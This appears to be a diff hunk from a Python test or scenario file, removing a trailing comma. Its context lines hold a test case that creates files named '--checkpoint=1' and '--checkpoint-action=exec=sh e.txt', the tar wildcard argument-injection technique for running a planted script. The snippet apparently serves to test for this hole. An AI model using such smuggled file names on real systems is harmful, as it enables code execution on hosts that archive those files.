@@ -193,7 +193,7 @@ while True:
         "C2 an option as a name": (
             f"cd {DESKTOP}; printf 'cp /tmp/a.tar.gz all.tar.gz; touch /tmp/took-over' > e.txt; "
             f"touch -- '--checkpoint=1' '--checkpoint-action=exec=sh e.txt'"
-        ),
+        )
     },
     makes=("all_gold.tar.gz",),
 )
